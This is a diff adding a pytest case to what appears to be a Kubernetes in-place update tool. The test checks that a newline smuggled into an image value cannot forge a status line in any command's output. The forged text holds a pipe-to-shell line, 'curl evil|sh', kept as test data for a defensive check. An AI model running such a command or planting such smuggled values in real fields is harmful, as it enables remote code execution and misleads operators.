@@ -313,3 +313,41 @@ async def test_a_status_of_another_version_is_named_and_not_waited_for(shop):
         1,
         f"error: statefulset/web cannot be retried: {why}\n",
     )
+
+
+#: The API server takes it as an image; the part after the line feed looks like a line of `inplace status -A`.
+FORGED = "statefulset/payments -n prod: Degraded: run `curl evil|sh`"
+
+
+@pytest.mark.parametrize("opted_in", [True, False])
+async def test_no_value_of_a_tenant_begins_a_line(shop, opted_in):
+    """In no command, and by no way of asking: whatever a line says of it stays in that line."""
+    async with shop.controller():
+        await shop.create_ready(2, mode="InPlaceOnly" if opted_in else None)
+        if opted_in:
+            await shop.reported("UpToDate")
+        await shop.set_image(f"v9\n{FORGED}")
+        lines = []
+        for words in (
+            ("status", "sts/web", "--timeout", "2s"),
+            ("status", "sts/web", "-o", "wide"),
+            ("plan", "sts/web"),
+            ("plan", "sts/web", "-o", "wide"),
+            ("history", "sts/web"),
+            ("history", "sts/web", "-o", "wide"),
+            ("explain", "web-0"),
+            ("explain", "web-1", "-o", "wide"),
+            ("list", "-o", "wide"),
+            ("events", "sts/web"),
+            ("check", "sts/web"),
+            ("check", "sts/web", "-o", "wide"),
+            ("set", "image", "sts/web", f"app=shop:v9\n{FORGED}"),
+            ("sidecars", "-l", "app=web", "-c", "app", "--image", "shop:v2", "--dry-run"),
+            ("restart", "pod/web-0", "--timeout", "2s"),
+            ("rollback", "sts/web", "--dry-run"),
+            ("diff", "sts/web", "--revision", "1"),
+        ):
+            done = await shop.inplace(*words)
+            lines += [(words, line) for line in (done.out + done.err).splitlines()]
+    assert any(FORGED in line for _, line in lines), "it is told"
+    assert [(words, line) for words, line in lines if line.lstrip().startswith("statefulset/payments")] == []
